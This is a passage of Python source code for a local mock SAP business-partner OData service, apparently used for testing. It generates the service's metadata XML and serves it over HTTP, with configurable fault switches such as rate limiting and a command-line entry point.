            out.append(f"    <Property {' '.join(attrs)}/>")
        for nav in etype.navs:
            assoc = f"assoc_{etype.set_name}_{nav.name}"
            associations.append((assoc, etype, nav))
            out.append(
                f'    <NavigationProperty Name="{nav.name}" Relationship="{ns}.{assoc}" '
                f'FromRole="FromRole_{assoc}" ToRole="ToRole_{assoc}"/>'
            )
        out.append("   </EntityType>")
    for assoc, etype, nav in associations:
        target = TYPES_BY_SET[nav.target]
        out.append(
            f'   <Association Name="{assoc}" sap:content-version="1">'
            f'<End Type="{ns}.{etype.name}" Multiplicity="1" Role="FromRole_{assoc}"/>'
            f'<End Type="{ns}.{target.name}" Multiplicity="{"*" if nav.many else "0..1"}" Role="ToRole_{assoc}"/>'
            "</Association>"
        )
    out.append(
        f'   <EntityContainer Name="{ns}_Entities" m:IsDefaultEntityContainer="true" sap:supported-formats="json">'
    )
    for etype in ENTITY_TYPES:
        updatable = "true" if etype is BP_TYPE else "false"
        out.append(
            f'    <EntitySet Name="{etype.set_name}" EntityType="{ns}.{etype.name}" sap:creatable="false" '
            f'sap:updatable="{updatable}" sap:deletable="false" sap:content-version="1"/>'
        )
    for assoc, etype, nav in associations:
        out.append(
            f'    <AssociationSet Name="{assoc}" Association="{ns}.{assoc}" sap:creatable="false" '
            'sap:updatable="false" sap:deletable="false" sap:content-version="1">'
            f'<End EntitySet="{etype.set_name}" Role="FromRole_{assoc}"/>'
            f'<End EntitySet="{nav.target}" Role="ToRole_{assoc}"/></AssociationSet>'
        )
    out += ["   </EntityContainer>", "  </Schema>", " </edmx:DataServices>", "</edmx:Edmx>"]
    return "\n".join(out) + "\n"


# ============================================================================================
# Serving from the command line
# ============================================================================================

FAULTS_ENV = "DRYMIX_SANDBOX_FAULTS"


def build_sandbox(
    partners: int = 10_000,
    seed: int = 42,
    max_page_size: int = 1000,
    changes_on_start: int = 0,
    faults: Mapping[str, Any] | None = None,
    **options: Any,
) -> SapSandbox:
    """A sandbox with faults from ``$DRYMIX_SANDBOX_FAULTS`` (JSON) overlaid by ``faults``."""
    merged: dict[str, Any] = {}
    env = os.environ.get(FAULTS_ENV, "").strip()
    if env:
        try:
            loaded = json.loads(env)
        except ValueError as exc:
            raise ValueError(f"{FAULTS_ENV} must be a JSON object: {exc}") from None
        if not isinstance(loaded, dict):
            raise ValueError(f"{FAULTS_ENV} must be a JSON object")
        merged.update(loaded)
    merged.update(faults or {})
    return SapSandbox(
        seed=seed,
        partners=partners,
        max_page_size=max_page_size,
        changes_on_start=changes_on_start,
        faults=FaultSwitches.from_value(merged),
        **options,
    )


def serve_sap(
    host: str = "127.0.0.1",
    port: int = 8401,
    partners: int = 10_000,
    seed: int = 42,
    max_page_size: int = 1000,
    changes_on_start: int = 0,
    faults: dict[str, Any] | None = None,
    *,
    log_level: str = "info",
    **options: Any,
) -> None:
    """Serve the SAP sandbox over HTTP until interrupted (the ``drymix sandbox sap`` command)."""
    sandbox = build_sandbox(partners, seed, max_page_size, changes_on_start, faults, **options)
    shown = f"[{host}]" if ":" in host else host
    print(
        f"SAP sandbox (API_BUSINESS_PARTNER, {sandbox.partner_count} partners, seed {seed}) on "
        f"http://{shown}:{port}{SERVICE_ROOT}\n"
        f"  Basic user {sandbox.username}; OAuth client {sandbox.client_id} at {TOKEN_PATH}; "
        "secrets: see docs/sandbox-sap.md\n"
        f"  control: http://{shown}:{port}/_sandbox  faults: {sandbox.faults.switches.active() or 'none'}",
        file=sys.stderr,
        flush=True,
    )
    serve(sandbox, host, port, log_level=log_level)


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m sandbox sap [options]``: serve the SAP sandbox."""
    parser = argparse.ArgumentParser(
        prog="python -m sandbox sap", description="Serve the SAP API_BUSINESS_PARTNER sandbox."
    )
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8401)
    parser.add_argument("--partners", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=42)
    parser.add_argument("--max-page-size", type=int, default=1000)
    parser.add_argument("--changes-on-start", type=int, default=0)
    parser.add_argument(
        "--fault",
        action="append",
        default=[],
        metavar="NAME=VALUE",
        help="fault switch, repeatable (e.g. rate_limit_every_n=5, retry_after_s=0)",
    )
    parser.add_argument("--log-level", default="info")
    args = parser.parse_args(argv)
    try:
        faults = parse_fault_assignments(args.fault)
        serve_sap(
            args.host,
            args.port,
            args.partners,
            args.seed,
            args.max_page_size,
            args.changes_on_start,
            faults,
            log_level=args.log_level,
        )
    except ValueError as exc:
        parser.error(str(exc))
    return 0


if __name__ == "__main__":
    sys.exit(main())
